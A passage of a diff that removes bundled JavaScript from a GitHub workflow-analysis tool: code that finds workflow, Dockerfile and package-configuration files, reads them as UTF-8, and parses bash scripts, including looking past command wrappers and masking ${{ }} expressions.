-    "go.env",
-    "go.mod",
-    "nuget.config",
-    "pip.conf",
-    "pipfile",
-    "pnpm-workspace.yaml",
-    "pom.xml",
-    "pyproject.toml",
-    "settings.gradle",
-    "settings.gradle.kts",
-    "settings.xml",
-    "uv.toml",
-]);
-/** The kind of the file at `path`, or undefined for one that the analysis doesn't care about. */
-function kindOf(path) {
-    const slash = path.lastIndexOf("/");
-    const name = path.slice(slash + 1);
-    if (slash === -1 ? false : path.slice(0, slash) === ".github/workflows") {
-        return /\.ya?ml$/.test(name) ? "workflow" : undefined;
-    }
-    if (name === "action.yml" || name === "action.yaml")
-        return "action";
-    if (path === ".github/dependabot.yml" || path === ".github/dependabot.yaml")
-        return "dependabot";
-    if (RENOVATE.has(path))
-        return "renovate";
-    if (CODEOWNERS.has(path))
-        return "codeowners";
-    if (isDockerfile(name))
-        return "dockerfile";
-    return isPackageConfiguration(path, name) ? "package-configuration" : undefined;
-}
-function isDockerfile(name) {
-    return (name === "Dockerfile" || name === "Containerfile" || name.startsWith("Dockerfile.") || name.endsWith(".Dockerfile"));
-}
-function isPackageConfiguration(path, name) {
-    const lower = name.toLowerCase();
-    return (PACKAGE_CONFIGURATION.has(lower) ||
-        (lower.startsWith("requirements") && lower.endsWith(".txt")) ||
-        /(?:^|\/)\.cargo\/config(?:\.toml)?$/.test(path) ||
-        path.endsWith("gradle/verification-metadata.xml"));
-}
-/**
- * Finds the files of a repository that the analysis reads, in a fixed order.
- *
- * Links to folders aren't followed, but for `.github` and what it holds; links that leave the repository are never followed.
- */
-function discover(root) {
-    const found = { files: [], unreachable: [] };
-    walk({ root, realRoot: (0,external_node_fs_.realpathSync)(root), found, seen: new Set() }, "");
-    found.files.sort((a, b) => (0,lib/* compareText */.n6)(a.path, b.path));
-    return found;
-}
-function walk(state, folder) {
-    let entries;
-    try {
-        entries = (0,external_node_fs_.readdirSync)((0,external_node_path_.join)(state.root, folder), { withFileTypes: true });
-    }
-    catch (error) {
-        state.found.unreachable.push({ path: folder || ".", reason: reasonOf(error) });
-        return;
-    }
-    for (const entry of entries) {
-        const path = folder === "" ? entry.name : `${folder}/${entry.name}`;
-        if (entry.isDirectory()) {
-            if (!SKIPPED_FOLDERS.has(entry.name))
-                walk(state, path);
-        }
-        else if (entry.isSymbolicLink()) {
-            visitLink(state, path);
-        }
-        else if (entry.isFile()) {
-            addFile(state, path);
-        }
-    }
-}
-function addFile(state, path) {
-    const kind = kindOf(path);
-    if (kind)
-        state.found.files.push({ path, kind });
-}
-function visitLink(state, path) {
-    const isGithub = path === ".github" || path.startsWith(".github/");
-    if (!isGithub && !kindOf(path))
-        return;
-    const target = insideTarget(state, path);
-    if (!target)
-        return;
-    if (!target.isFolder)
-        addFile(state, path);
-    else if (isGithub && !state.seen.has(target.real)) {
-        state.seen.add(target.real);
-        walk(state, path);
-    }
-}
-function insideTarget(state, path) {
-    try {
-        const real = (0,external_node_fs_.realpathSync)((0,external_node_path_.join)(state.root, path));
-        const isInside = real === state.realRoot || real.startsWith(state.realRoot + external_node_path_.sep);
-        return isInside ? { real, isFolder: (0,external_node_fs_.statSync)(real).isDirectory() } : undefined;
-    }
-    catch {
-        // A dangling link or a loop names no file.
-        return undefined;
-    }
-}
-/** What the system said, in words. */
-function reasonOf(error) {
-    const code = error instanceof Error && "code" in error ? String(error.code) : "";
-    const words = {
-        EACCES: "no permission to read it",
-        EPERM: "no permission to read it",
-        EISDIR: "it is a folder",
-        ELOOP: "its links go round in a circle",
-        EMFILE: "too many files are open",
-        ENAMETOOLONG: "its name is too long",
-        ENOENT: "it does not exist",
-    };
-    return words[code] ?? (code || String(error));
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/locate.js
-
-
-/** Finds the repository that a given path means; undefined when nothing is there. */
-function locateRepository(path) {
-    const absolute = (0,external_node_path_.resolve)(path);
-    const stats = (0,external_node_fs_.statSync)(absolute, { throwIfNoEntry: false });
-    if (!stats)
-        return undefined;
-    if (stats.isDirectory())
-        return { root: rootOf(outOfGithub(absolute)), only: null };
-    const root = rootOf(outOfGithub((0,external_node_path_.dirname)(absolute)));
-    return { root, only: absolute.slice(root.length + 1).replaceAll("\\", "/") };
-}
-/** The folder that holds `.github`, for paths into it. */
-function outOfGithub(folder) {
-    if ((0,external_node_path_.basename)(folder) === "workflows" && (0,external_node_path_.basename)((0,external_node_path_.dirname)(folder)) === ".github")
-        return (0,external_node_path_.dirname)((0,external_node_path_.dirname)(folder));
-    return (0,external_node_path_.basename)(folder) === ".github" ? (0,external_node_path_.dirname)(folder) : folder;
-}
-/** The nearest folder upwards, in the same git work tree, with `.github` or an action; else the folder itself. */
-function rootOf(folder) {
-    let candidate;
-    for (let at = folder;; at = (0,external_node_path_.dirname)(at)) {
-        if (candidate === undefined && isRoot(at))
-            candidate = at;
-        if ((0,external_node_fs_.existsSync)((0,external_node_path_.join)(at, ".git")))
-            return candidate ?? folder;
-        // Outside git nothing says where the repository ends.
-        if (at === (0,external_node_path_.dirname)(at))
-            return folder;
-    }
-}
-function isRoot(folder) {
-    return [".github", "action.yml", "action.yaml"].some((name) => (0,external_node_fs_.existsSync)((0,external_node_path_.join)(folder, name)));
-}
-
-// EXTERNAL MODULE: external "node:buffer"
-var external_node_buffer_ = __nccwpck_require__(4573);
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/read.js
-
-
-
-
-
-/** Reads a text file of at most `MAX_FILE_BYTES`. Text is UTF-8, as GitHub reads it. */
-function readSource(absolute, path) {
-    try {
-        return decode(readBounded(absolute), path);
-    }
-    catch (error) {
-        return { ok: false, reason: error instanceof TooLarge ? error.message : reasonOf(error) };
-    }
-}
-class TooLarge extends Error {
-}
-function readBounded(absolute) {
-    const descriptor = (0,external_node_fs_.openSync)(absolute, "r");
-    try {
-        const { size } = (0,external_node_fs_.fstatSync)(descriptor);
-        if (size > limits/* MAX_FILE_BYTES */.gZ) {
-            throw new TooLarge(`it has ${size} bytes, more than the ${limits/* MAX_FILE_BYTES */.gZ} that are read`);
-        }
-        return (0,external_node_fs_.readFileSync)(descriptor);
-    }
-    finally {
-        (0,external_node_fs_.closeSync)(descriptor);
-    }
-}
-function decode(bytes, path) {
-    const first = bytes[0];
-    const second = bytes[1];
-    if ((first === 0xff && second === 0xfe) || (first === 0xfe && second === 0xff)) {
-        return { ok: false, reason: "it is UTF-16; GitHub reads UTF-8: save it as UTF-8" };
-    }
-    if (!(0,external_node_buffer_.isUtf8)(bytes))
-        return { ok: false, reason: "it is not valid UTF-8: save it as UTF-8" };
-    const text = bytes.toString("utf8");
-    const nul = bytes.indexOf(0);
-    if (nul !== -1)
-        return { ok: false, reason: `it holds a NUL byte, at byte ${nul}, which no YAML file may` };
-    return { ok: true, file: new lib/* SourceFile */.sC(path, text) };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/parser.js
-let parse;
-/**
- * Loads the bash parser (about 15 ms), which is needed before bash and sh scripts are parsed and not just split. The
- * split knows less of structure only where a script is unusual, so who forgets this loses little.
- */
-async function prepareShells() {
-    parse ??= (await __nccwpck_require__.e(/* import() */ 989).then(__nccwpck_require__.bind(__nccwpck_require__, 8989))).parse;
-}
-/** Longer scripts aren't worth a parser's time, nor a person's. */
-const MAX_LENGTH = 256 * 1024;
-/** The parser's time grows with the square of the here-documents of a line. */
-const MAX_HEREDOCS = 500;
-/** The syntax tree, or `undefined` when the parser isn't loaded or has trouble with the script. */
-function parseBash(masked) {
-    if (!parse || masked.length > MAX_LENGTH || hasMoreThan(masked, "<<", MAX_HEREDOCS))
-        return undefined;
-    try {
-        const script = parse(masked);
-        return script.errors && script.errors.length > 0 ? undefined : script;
-    }
-    catch {
-        // Deep nesting overflows its stack.
-        return undefined;
-    }
-}
-function hasMoreThan(text, part, limit) {
-    let count = 0;
-    for (let at = text.indexOf(part); at >= 0; at = text.indexOf(part, at + part.length)) {
-        if (++count > limit)
-            return true;
-    }
-    return false;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/effective-command.js
-const none = new Set();
-/** @see the manual pages of each: POSIX `env`, `nice`, `nohup`, `xargs`; sudo(8), timeout(1), bash(1) "SHELL BUILTIN COMMANDS" */
-const WRAPPERS = new Map([
-    [
-        "sudo",
-        {
-            withValue: options("u user g group h host p prompt C close-from T command-timeout r role t type D chdir R chroot U other-user"),
-            assigns: true,
-        },
-    ],
-    ["doas", { withValue: options("u C") }],
-    ["env", { withValue: options("u unset C chdir a argv0"), assigns: true }],
-    ["time", { withValue: options("f format o output") }],
-    ["command", { withValue: none, unless: new Set(["-v", "-V"]) }],
-    ["builtin", { withValue: none }],
-    ["exec", { withValue: options("a") }],
-    ["timeout", { withValue: options("s signal k kill-after"), operands: 1 }],
-    ["gtimeout", { withValue: options("s signal k kill-after"), operands: 1 }],
-    ["nice", { withValue: options("n adjustment") }],
-    ["ionice", { withValue: options("c class n classdata"), unless: new Set(["-p", "--pid"]) }],
-    ["nohup", { withValue: none }],
-    ["setsid", { withValue: none }],
-    ["stdbuf", { withValue: options("i input o output e error") }],
-    ["unbuffer", { withValue: none }],
-    ["xvfb-run", { withValue: options("e error-file f auth-file n server-num p xauth-protocol s server-args w wait") }],
-    ["xargs", { withValue: options("a arg-file d delimiter E I L max-lines n max-args P max-procs s max-chars") }],
-]);
-function options(names) {
-    return new Set(names.split(" ").map((name) => (name.length === 1 ? `-${name}` : `--${name}`)));
-}
-const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=/;
-/** Looks behind wrappers; a command without any is given back as it is. */
-function effectiveCommand(command) {
-    const words = command.name ? [command.name, ...command.args] : [];
-    const wrappers = [];
-    let at = 0;
-    for (;;) {
-        const program = baseName(words[at]?.literal);
-        const next = program === undefined ? undefined : nextProgram(words, at, program);
-        if (next === undefined || program === undefined)
-            break;
-        wrappers.push(program);
-        at = next;
-    }
-    return at === 0
-        ? { name: command.name, args: command.args, wrappers, command }
-        : { name: words[at], args: words.slice(at + 1), wrappers, command };
-}
-/** Index of the program that the wrapper at `at` runs, `undefined` when it runs none. */
-function nextProgram(words, at, program) {
-    if (program === "eval")
-        return evalProgram(words, at);
-    const wrapper = WRAPPERS.get(program);
-    if (!wrapper)
-        return undefined;
-    let operands = wrapper.operands ?? 0;
-    for (let index = at + 1; index < words.length; index++) {
-        const word = words[index];
-        const text = word.literal ?? word.text;
-        if (wrapper.unless?.has(text))
-            return undefined;
-        if (text === "--")
-            return index + 1 + operands < words.length ? index + 1 + operands : undefined;
-        if (text.startsWith("-") && text !== "") {
-            if (wrapper.withValue.has(text))
-                index++;
-        }
-        else if (wrapper.assigns && ASSIGNMENT.test(text)) {
-            // Goes into the program's environment.
-        }
-        else if (operands > 0)
-            operands--;
-        else
-            return index;
-    }
-    return undefined;
-}
-/** `eval curl x` runs its words; `eval "…"` is a text of its own, read as a nested script. */
-function evalProgram(words, at) {
-    const first = words[at + 1];
-    return first && words.length > at + 2 && first.literal !== undefined && first.literal === first.text
-        ? at + 1
-        : undefined;
-}
-/** The last part of a program's path. */
-function baseName(path) {
-    return path === undefined ? undefined : path.slice(path.lastIndexOf("/") + 1);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/embedded.js
-/** Stands in the place of each code unit of a `${{ … }}`: no shell gives it a meaning, none takes it into a variable's name. */
-const PLACEHOLDER = "\uE000";
-/**
- * The `${{ … }}` of a script, fences included. A `}}` inside a `'…'` literal doesn't close; an expression without end
- * isn't one.
- */
-function embeddedExpressions(text) {
-    const found = [];
-    let start = text.indexOf("${{");
-    while (start >= 0) {
-        const end = endOfExpression(text, start + 3);
-        if (end < 0)
-            break;
-        found.push({ start, end });
-        start = text.indexOf("${{", end);
-    }
-    return found;
-}
-function endOfExpression(text, from) {
-    let quoted = false;
-    for (let at = from; at < text.length; at++) {
-        const code = text.charCodeAt(at);
-        if (code === 39)
-            quoted = !quoted;
-        else if (!quoted && code === 125 && text.charCodeAt(at + 1) === 125)
-            return at + 2;
-    }
-    return -1;
-}
-/** The script with every expression replaced by one opaque word of the same length, so that offsets stay. */
-function maskExpressions(text, expressions) {
-    if (expressions.length === 0)
-        return text;
-    const foreign = text.includes(PLACEHOLDER);
-    let masked = "";
-    let at = 0;
-    for (const { start, end } of expressions) {
-        masked += plain(text.slice(at, start), foreign) + PLACEHOLDER.repeat(end - start);
-        at = end;
-    }
-    return masked + plain(text.slice(at), foreign);
-}
-/** The placeholder in a script's own text would pass for an expression; its neighbour means as little. */
-function plain(text, foreign) {
-    return foreign ? text.replaceAll(PLACEHOLDER, "\uE001") : text;
-}
-/** Index of the first expression that ends after `offset`; `expressions.length` when none does. */
-function firstExpressionAfter(expressions, offset) {
-    let low = 0;
-    let high = expressions.length;
-    while (low < high) {
-        const middle = (low + high) >> 1;
-        if (expressions[middle].end <= offset)
-            low = middle + 1;
-        else
-            high = middle;
-    }
-    return low;
-}
-/** Does any expression touch the range? */
-function holdsExpression(expressions, start, end) {
-    const first = expressions[firstExpressionAfter(expressions, start)];
-    return first !== undefined && first.start < end;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/source.js
-
-function scriptSource(text, expressions = text.includes("${{") ? embeddedExpressions(text) : []) {
-    return { text, expressions, masked: maskExpressions(text, expressions) };
-}
-/** The expressions inside a range, as parts of a word. */
-function expressionParts(source, start, end, quoted) {
-    const parts = [];
-    const { expressions } = source;
-    for (let index = firstExpressionAfter(expressions, start); index < expressions.length; index++) {
-        const expression = expressions[index];
-        if (expression.start >= end)
-            break;
-        parts.push({ kind: "expression", index, start: expression.start, end: expression.end, quoted });
-    }
-    return parts;
-}
-/**
- * Static text of a word, cut at the expressions that it holds.
- *
- * @param value what the range means after quote removal, made from the masked text: each expression is still there in
- * its full length, so that the text around it can be told apart
- */
-function literalParts(source, value, start, end, quoted) {
-    const expressions = expressionParts(source, start, end, quoted);
-    if (expressions.length === 0)
-        return [{ kind: "literal", start, end, quoted, value }];
-    const parts = [];
-    let at = start;
-    let valueAt = 0;
-    for (const expression of expressions) {
-        const placeholder = source.masked[expression.start];
-        const found = value.indexOf(placeholder, valueAt);
-        const literalEnd = found < 0 ? value.length : found;
-        if (literalEnd > valueAt) {
-            parts.push({
-                kind: "literal",
-                start: at,
-                end: expression.start,
-                quoted,
-                value: value.slice(valueAt, literalEnd),
-            });
-        }
-        parts.push(expression);
-        at = expression.end;
-        valueAt = literalEnd + (expression.end - expression.start);
-    }
-    if (valueAt < value.length)
-        parts.push({ kind: "literal", start: at, end, quoted, value: value.slice(valueAt) });
-    return parts;
-}
-/** The value of a word made of these parts, `undefined` when it isn't static. */
-function literalOf(parts) {
-    let value = "";
-    for (const part of parts) {
-        if (part.kind === "literal")
-            value += part.value;
-        else if (part.kind === "glob" && part.pattern !== undefined)
-            value += part.pattern;
-        else
-            return undefined;
-    }
-    return value;
-}
-/** What a script's regions say, in the words that parts use. */
-function quotedAs(region) {
-    switch (region?.quoting) {
-        case "single":
-        case "ansi-c":
-        case "heredoc-quoted":
-        case "here-string-single":
-            return "single";
-        case "double":
-            return "double";
-        case "heredoc":
-        case "here-string-double":
-            return "heredoc";
-        default:
-            return "none";
-    }
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/placement.js
-const unmoved = (start, end) => ({ start, end });
-/** The text was cut out of the outer one at `offset`. */
-function cutAt(outer, offset) {
-    return (start, end) => outer(start + offset, end + offset);
-}
-/** The text was made from what stands at `span` by more than cutting: everything is there. */
-function madeFrom({ start, end }) {
-    return () => ({ start, end });
-}
-/**
- * The text stood inside backticks, and one level of backslashes was removed.
- *
- * @param raw the text between the backticks
- * @param decoded what the parser made of it
- * @param offset of `raw` in the outer text
- */
-function unescaped(outer, raw, decoded, offset) {
-    const offsets = new Uint32Array(decoded.length + 1);
-    let at = 0;
-    for (let index = 0; index < decoded.length; index++) {
-        if (raw[at] === "\\" && (raw[at] !== decoded[index] || raw[at + 1] === "\\"))
-            at++;
-        offsets[index] = Math.min(at, raw.length);
-        at++;
-    }
-    offsets[decoded.length] = raw.length;
-    const place = (index) => offset + offsets[Math.min(index, decoded.length)];
-    return (start, end) => outer(place(start), place(end));
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/convert-word.js
-
-
-/** A word of unbash in our shape, converted when asked for. */
-class BashWord {
-    context;
-    convert;
-    start;
-    end;
-    #parts;
-    #literal = null;
-    constructor(context, range, convert) {
-        this.context = context;
-        this.convert = convert;
-        const span = context.place(range.pos, range.end);
-        this.start = span.start;
-        this.end = span.end;
-    }
-    get text() {
-        return this.context.source.text.slice(this.start, this.end);
-    }
-    get parts() {
-        this.#parts ??= this.convert(this.context);
-        return this.#parts;
-    }
-    get literal() {
-        if (this.#literal === null)
-            this.#literal = literalOf(this.parts);
-        return this.#literal;
-    }
-    toJSON() {
-        return { start: this.start, end: this.end, text: this.text, literal: this.literal, parts: this.parts };
-    }
-}
-function wordOf(node, context) {
-    return made(node, context, () => wordParts(node, "none", context));
-}
-/** `NAME=value` as an argument, of `export` or `env`. */
-function assignmentWord(node, context) {
-    return made(node, context, () => {
-        const values = node.value.type === "ArrayValue" ? node.value.elements : [node.value];
-        const nameEnd = values[0]?.pos ?? node.end;
-        const name = literal(context, context.text.slice(node.pos, nameEnd), node.pos, nameEnd, "none");
-        return [...name, ...values.flatMap((value) => wordParts(value, "none", context))];
-    });
-}
-function heredocWord(node, quoted, context) {
-    return made(node, context, () => {
-        const around = quoted ? "single" : "heredoc";
-        if (!node.parts)
-            return literal(context, node.text, node.pos, node.end, around);
-        return node.parts.flatMap((part) => convertPart(part, around, context));
-    });
-}
-/** A range of the text that is one static word. */
-function plainWord(start, end, context) {
-    return new BashWord(context, { pos: start, end }, () => literal(context, context.text.slice(start, end), start, end, "none"));
-}
-function arithmeticWord(expression, range, context) {
-    return made({ ...range, text: context.text.slice(range.pos, range.end) }, context, () => [
-        {
-            kind: "arithmetic",
-            ...context.place(range.pos, range.end),
-            quoted: "none",
-            parts: arithmeticParts(expression, range, context),
-        },
-    ]);
-}
-/** Substitutions hold commands, which belong to the script's: those words are converted at once. */
-const MAY_HOLD_COMMANDS = /[`(]|\$\{[\s|]/;
-function made(node, context, convert) {
-    const word = new BashWord(context, node, convert);
-    if (MAY_HOLD_COMMANDS.test(node.text))
-        void word.parts;
-    return word;
-}
-function wordParts(node, quoted, context) {
-    const { parts } = node;
-    if (parts)
-        return parts.flatMap((part) => convertPart(part, quoted, context));
-    return node.end > node.pos ? literal(context, node.value, node.pos, node.end, quoted) : [];
-}
-function literal(context, value, start, end, quoted) {
-    const span = context.place(start, end);
-    return literalParts(context.source, value, span.start, span.end, quoted);
-}
-function convertPart(part, quoted, context) {
-    const { source } = context;
-    const span = context.place(part.pos, part.end);
-    switch (part.type) {
-        case "Literal":
-            return literal(context, part.value, part.pos, part.end, quoted);
-        case "SingleQuoted":
-        case "AnsiCQuoted":
-            return literal(context, part.value, part.pos, part.end, "single");
-        case "DoubleQuoted":
-        case "LocaleString":
-            if (part.parts.length === 0)
-                return [{ kind: "literal", ...span, quoted: "double", value: "" }];
-            return part.parts.flatMap((child) => convertPart(child, quoted === "heredoc" ? quoted : "double", context));
-        case "SimpleExpansion":
-            return [{ kind: "variable", ...span, quoted, name: part.text.slice(1), operator: undefined, operand: [] }];
-        case "ParameterExpansion":
-            return [
-                {
-                    kind: "variable",
-                    ...span,
-                    quoted,
-                    name: part.parameter,
-                    operator: operatorOf(part),
-                    operand: operandOf(part, quoted, context),
-                },
-            ];
-        case "CommandExpansion":
-        case "ProcessSubstitution":
-            return [
-                { kind: "substitution", ...span, quoted, commands: part.script ? substituted(part, part.script, context) : [] },
-            ];
-        case "ArithmeticExpansion":
-            return [{ kind: "arithmetic", ...span, quoted, parts: arithmeticParts(part.expression, part, context) }];
-        case "Glob":
-        case "ExtendedGlob":
-        case "BraceExpansion": {
-            const inner = part.parts?.flatMap((child) => convertPart(child, quoted, context));
-            const parts = inner ?? expressionParts(source, span.start, span.end, quoted);
-            const isStatic = part.type !== "BraceExpansion" && parts.every((child) => child.kind === "literal" || child.kind === "glob");
-            return [{ kind: "glob", ...span, quoted, pattern: isStatic ? part.text : undefined, parts }];
-        }
-    }
-}
-function substituted(part, script, context) {
-    if (script.source === undefined)
-        return context.substitution(script, context.text, context.place);
-    // Backslashes were removed inside backticks: offsets of this script are offsets of another text.
-    const raw = context.text.slice(part.pos + 1, part.end - 1);
-    const place = unescaped(context.place, raw, script.source, part.pos + 1);
-    return context.substitution(script, script.source, place);
-}
-function operatorOf(part) {
-    if (part.prefix === "#")
-        return "length";
-    if (part.prefix === "!")
-        return "indirect";
-    return part.operation?.operator;
-}
-function operandOf(part, quoted, context) {
-    const { index, operation } = part;
-    const words = [index];
-    if (operation) {
-        if ("operand" in operation)
-            words.push(operation.operand);
-        else if ("pattern" in operation)
-            words.push(operation.pattern, operation.replacement);
-        else if ("offset" in operation)
-            words.push(operation.offset, operation.length);
-        else if (operation.type === "Unknown") {
-            const span = context.place(part.pos, part.end);
-            return expressionParts(context.source, span.start, span.end, quoted);
-        }
-    }
-    return words.flatMap((word) => (word ? wordParts(word, quoted, context) : []));
-}
-const NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;
-function arithmeticParts(expression, range, context) {
-    const parts = [];
-    if (expression)
-        collectArithmetic(expression, parts, context);
-    const whole = context.place(range.pos, range.end);
-    // Expressions stand inside words, numbers or between operators: take them as they come.
-    const expressions = expressionParts(context.source, whole.start, whole.end, "none");
-    if (expressions.length === 0)
-        return parts;
-    return [...parts.filter((part) => part.kind !== "expression"), ...expressions].sort((a, b) => a.start - b.start);
-}
-function collectArithmetic(node, into, context) {
-    switch (node.type) {
-        case "ArithmeticBinary":
-            collectArithmetic(node.left, into, context);
-            collectArithmetic(node.right, into, context);
-            return;
-        case "ArithmeticUnary":
-            collectArithmetic(node.operand, into, context);
-            return;
-        case "ArithmeticTernary":
-            collectArithmetic(node.test, into, context);
-            collectArithmetic(node.consequent, into, context);
-            collectArithmetic(node.alternate, into, context);
-            return;
-        case "ArithmeticGroup":
-            collectArithmetic(node.expression, into, context);
-            return;
-        case "ArithmeticCommandExpansion": {
-            const commands = node.script ? context.substitution(node.script, context.text, context.place) : [];
-            into.push({ kind: "substitution", ...context.place(node.pos, node.end), quoted: "none", commands });
-            return;
-        }
-        case "ArithmeticWord":
-            if (node.parts)
-                into.push(...node.parts.flatMap((part) => convertPart(part, "none", context)));
-            else if (NAME.test(node.value)) {
-                const span = context.place(node.pos, node.end);
-                into.push({ kind: "variable", ...span, quoted: "none", name: node.value, operator: undefined, operand: [] });
-            }
-    }
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/convert.js
-
-/** Adds the commands of a syntax tree to `collected`. */
-function convertScript(tree, source, text, placement, place, collected) {
-    const converter = new Converter(source, text, placement, collected);
-    converter.list(tree.commands, place, []);
-}
-class Converter {
-    source;
-    text;
-    place;
-    collected;
-    /** Where the words being converted stand; substitutions in them inherit it. */
-    wordPlace;
-    constructor(source, text, place, collected) {
-        this.source = source;
-        this.text = text;
-        this.place = place;
-        this.collected = collected;
-    }
-    list(statements, place, into) {
-        for (const { command } of statements)
-            this.node(command, place, into);
-    }
-    substitution(script, text, placement) {
-        const outer = this.wordPlace;
-        const inner = { ...outer, inSubstitution: true, group: undefined };
-        const commands = [];
-        const converter = new Converter(this.source, text, placement, this.collected);
-        converter.list(script.commands, inner, commands);
-        return commands;
-    }
-    node(node, place, into) {
-        switch (node.type) {
-            case "Command":
-                return this.command(node, place, into);
-            case "Pipeline":
-                this.pipeline(node, place, into);
-                return undefined;
-            case "AndOr":
-                this.andOr(node, place, into);
-                return undefined;
-            case "Function":
-                return this.function(node, place, into);
-            case "Coproc":
-                if (node.body.type === "CompoundList")
-                    this.list(node.body.commands, place, into);
-                else
-                    return this.node(node.body, place, into);
-                return undefined;
-            case "TestCommand":
-                return this.testCommand(node, place, [], into);
-            case "ArithmeticCommand":
-                return this.arithmeticCommand(node, place, [], into);
-            case "Redirected":
-                return this.redirected(node, place, into);
-            default:
-                return this.compound(node, place, [], into);
-        }
-    }
-    andOr(node, place, into) {
-        node.commands.forEach((command, index) => {
-            const operator = node.operators[index - 1];
-            const at = operator ? under(place, operator === "&&" ? "and" : "or") : place;
-            this.node(command, at, into);
-        });
-    }
-    pipeline(node, place, into) {
-        const stages = [];
-        for (const command of node.commands) {
-            const stage = this.node(command, place, into);
-            if (stage)
-                stages.push(stage);
-        }
-        if (stages.length < 2)
-            return;
-        stages.forEach((stage, index) => {
-            stage.pipeline = { index, stages };
-        });
-    }
-    command(node, place, into) {
-        const assignments = [];
-        const redirects = [];
-        const args = [];
-        const command = this.add(node, place, into, { name: undefined, args, assignments, redirects });
-        this.wordPlace = place;
-        for (const child of node.prefix) {
-            if (child.type === "Assignment")
-                assignments.push(this.assignment(child));
-            else
-                redirects.push(this.redirect(child));
-        }
-        if (node.name)
-            command.name = wordOf(node.name, this);
-        for (const child of node.suffix) {
-            if (child.type === "Word")
-                args.push(wordOf(child, this));
-            else if (child.type === "Assignment")
-                args.push(assignmentWord(child, this));
-            else
-                redirects.push(this.redirect(child));
-        }
-        return command;
-    }
-    add(node, place, into, content) {
-        const command = {
-            kind: "command",
-            ...this.place(node.pos, node.end),
-            ...content,
-            place,
-            pipeline: undefined,
-        };
-        this.collected.commands.push(command);
-        into.push(command);
-        return command;
-    }
-    assignment(node) {
-        const { value } = node;
-        // A subscript may run commands.
-        if (node.index)
-            wordOf(node.index, this);
-        const values = value.type === "ArrayValue" ? value.elements : value.end > value.pos ? [value] : [];
-        return {
-            ...this.place(node.pos, node.end),
-            name: node.name,
-            append: node.append === true,
-            values: values.map((word) => wordOf(word, this)),
-        };
-    }
-    redirect(node) {
-        const base = {
-            ...this.place(node.pos, node.end),
-            operator: node.operator,
-            descriptor: descriptorOf(node.descriptor),
-        };
-        if (node.type !== "HereDoc") {
-            return { ...base, target: node.target && wordOf(node.target, this), heredoc: undefined };
-        }
-        const { delimiter, body } = node;
-        const quoted = delimiter?.quoted ?? false;
-        return {
-            ...base,
-            target: delimiter && plainWord(delimiter.pos, delimiter.end, this),
-            heredoc: {
-                body: this.place(body.pos, body.end),
-                delimiter: delimiter?.value ?? "",
-                quoted,
-                content: heredocWord(body, quoted, this),
-            },
-        };
-    }
-    redirects(nodes, place) {
-        this.wordPlace = place;
-        return nodes.map((node) => this.redirect(node));
-    }
-    redirected(node, place, into) {
-        const redirects = this.redirects(node.redirects, place);
-        const { command } = node;
-        if (command.type === "TestCommand")
-            return this.testCommand(command, place, redirects, into);
-        if (command.type === "ArithmeticCommand")
-            return this.arithmeticCommand(command, place, redirects, into);
-        return this.compound(command, place, redirects, into, node);
-    }
-    function(node, place, into) {
-        const name = node.name.value;
-        return this.group("function", node, place, { name }, into, (inside, commands) => {
-            const body = { ...inside, inFunction: name };
-            if (node.body.type === "CompoundList")
-                this.list(node.body.commands, body, commands);
-            else
-                this.node(node.body, body, commands);
-        });
-    }
-    compound(node, place, redirects, into, whole = node) {
-        this.wordPlace = place;
-        switch (node.type) {
-            case "BraceGroup":
-            case "Subshell":
-                return this.group(node.type === "Subshell" ? "subshell" : "brace", whole, place, { redirects }, into, (inside, to) => this.list(node.body.commands, inside, to));
-            case "If":
-                return this.group("if", whole, place, { redirects }, into, (inside, to) => this.branches(node, inside, to));
-            case "While":
-                return this.group("while", whole, place, { redirects }, into, (inside, to) => {
-                    this.list(node.clause.commands, under(inside, "loop-test"), to);
-                    this.list(node.body.commands, under(inside, "loop-body"), to);
-                });
-            case "For":
-            case "Select": {
-                const words = (node.wordlist ?? []).map((word) => wordOf(word, this));
-                const kind = node.type === "For" ? "for" : "select";
-                return this.group(kind, whole, place, { redirects, words, name: node.name.value }, into, (inside, to) => this.list(node.body.commands, under(inside, "loop-body"), to));
-            }
-            case "ArithmeticFor": {
-                const words = [node.initialize, node.test, node.update].flatMap((part) => part ? [arithmeticWord(part, part, this)] : []);
-                return this.group("for", whole, place, { redirects, words }, into, (inside, to) => this.list(node.body.commands, under(inside, "loop-body"), to));
-            }
-            case "Case": {
-                const words = [wordOf(node.word, this)];
-                return this.group("case", whole, place, { redirects, words }, into, (inside, to) => {
-                    const body = under(inside, "case-body");
-                    for (const item of node.items) {
-                        this.wordPlace = inside;
-                        for (const pattern of item.pattern)
-                            wordOf(pattern, this);
-                        this.list(item.body.commands, body, to);
-                    }
-                });
-            }
-        }
-    }
-    branches(node, inside, into) {
-        this.list(node.clause.commands, under(inside, "if-test"), into);
-        this.list(node.then.commands, under(inside, "if-body"), into);
-        const otherwise = under(inside, "else-body");
-        for (const branch of node.elif) {
-            this.list(branch.clause.commands, under(otherwise, "if-test"), into);
-            this.list(branch.then.commands, under(inside, "if-body"), into);
-        }
-        if (node.else)
-            this.list(node.else.commands, otherwise, into);
-    }
-    group(kind, node, place, content, into, fill) {
-        const commands = [];
-        const group = {
-            kind,
-            ...this.place(node.pos, node.end),
-            name: content.name,
-            words: content.words ?? [],
-            redirects: content.redirects ?? [],
-            commands,
-            place,
-            pipeline: undefined,
-        };
-        this.collected.groups.push(group);
-        fill({ ...place, group }, commands);
-        for (const command of commands)
-            into.push(command);
-        return group;
-    }
-    testCommand(node, place, redirects, into) {
-        const args = [];
-        const name = plainWord(node.pos, node.pos + 2, this);
-        const command = this.add(node, place, into, { name, args, assignments: [], redirects });
-        this.wordPlace = place;
-        this.operands(node.expression, args);
-        return command;
-    }
-    operands(node, into) {
-        switch (node.type) {
-            case "TestUnary":
-                into.push(wordOf(node.operand, this));
-                return;
-            case "TestBinary":
